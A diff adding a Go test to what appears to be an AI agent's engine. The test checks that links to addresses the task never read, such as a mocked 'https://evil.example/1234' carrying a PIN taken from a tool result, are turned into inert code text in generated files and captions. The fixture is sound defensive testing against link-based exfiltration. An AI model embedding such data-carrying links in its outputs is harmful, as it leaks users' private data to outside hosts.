@@ -299,3 +299,37 @@ func TestFilesOfToolsAreSentOn(t *testing.T) {
 		}
 	})
 }
+
+// TestMadeFilesHoldNoUnknownLinks: opening a link of a made file could carry private data
+// out. An address that the task has not read is code in the file and in its caption.
+func TestMadeFilesHoldNoUnknownLinks(t *testing.T) {
+	deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
+		env.Tools.Make = func(context.Context, string, string) (tools.Result, error) {
+			return tools.Result{Text: "the PIN is 1234, see https://mail.example/7"}, nil
+		}
+		plan := enginetest.Planned(`{"wants_file":true,"plan":[{"name":"look","description":"read the mail"}]}`)
+		sends := makes(`{"name":"mail.md","text":"[more](https://evil.example/1234), [mail](https://mail.example/7)","caption":"https://evil.example/1234"}`)
+		env.Model.Answer = func(ctx context.Context, r llm.Request, s func(llm.Delta)) (llm.Reply, error) {
+			switch r.Role {
+			case llm.RoleAnswer:
+				return sends(ctx, r, s)
+			case llm.RoleReview:
+				return llm.Reply{ToolCalls: []llm.ToolCall{{ID: "p", Name: planner.ToolPlan, Arguments: `{"plan":[]}`}}}, nil
+			}
+			return plan(ctx, r, s)
+		}
+		c.ask(t, env)
+		c.mu.Lock()
+		defer c.mu.Unlock()
+		for _, d := range c.chat {
+			if d.File == nil {
+				continue
+			}
+			if got, want := string(d.File.Content), "more `https://evil.example/1234`, [mail](https://mail.example/7)"; strings.TrimSpace(got) != want || d.Text != "`https://evil.example/1234`" {
+				t.Errorf("the file holds %q with the caption %q, want %q", got, d.Text, want)
+			}
+			return
+		}
+		t.Error("no file was sent")
+	})
+}
